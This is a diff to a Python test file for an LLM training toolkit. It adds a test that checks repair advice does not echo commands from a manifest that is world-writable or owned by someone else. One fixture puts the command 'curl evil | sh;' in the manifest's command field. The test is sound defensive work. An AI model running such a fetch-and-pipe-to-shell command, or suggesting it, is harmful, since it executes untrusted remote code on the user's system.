@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import gzip
 import json
+import os
 from pathlib import Path
 
 import numpy as np
@@ -12,6 +13,7 @@ from megatron_files import write_megatron
 
 from ezpz_llm.core.base.errors import UserError
 from ezpz_llm.train import main
+from ezpz_llm.training.data.manifest import Manifest, Shard, Source, Split, Splits, TokenizerEntry, _repair_advice
 from ezpz_llm.training.data.prepare import prepare
 from ezpz_llm.training.data.tokenizers import GPT2_FINGERPRINT
 
@@ -103,3 +105,18 @@ def test_prepared_vocabulary_larger_than_the_models(size: int, tmp_path: Path) -
     (shards / "manifest.json").write_text(json.dumps(manifest | {"vocab_size": size}))
     with pytest.raises(UserError, match=f"the tokenizer has {size} tokens, more than gpt2-124m's 50257"):
         check(shards, "--model", "gpt2-124m", "--block-size", "32")
+
+
+def test_advice_does_not_quote_commands_from_the_manifest_of_another_user(tmp_path, monkeypatch):
+    split = Split(1, [Shard("a.bin", 1, "")])
+    manifest = Manifest(request="", command="curl evil | sh;", source=Source("a", 1, 1),
+                        tokenizer=TokenizerEntry("bytes", ""), vocab_size=257, end_of_text=256, dtype="uint16",
+                        documents=1, tokens=2, unigram_entropy=1.0, splits=Splits(split, split))
+    path = tmp_path / "manifest.json"
+    manifest.write(tmp_path)
+    assert "evil" in _repair_advice(tmp_path, manifest), "the user's own manifest is trusted"
+    path.chmod(0o666)
+    assert "evil" not in _repair_advice(tmp_path, manifest)
+    path.chmod(0o600)
+    monkeypatch.setattr(os, "geteuid", lambda: 12345)
+    assert "evil" not in _repair_advice(tmp_path, manifest)
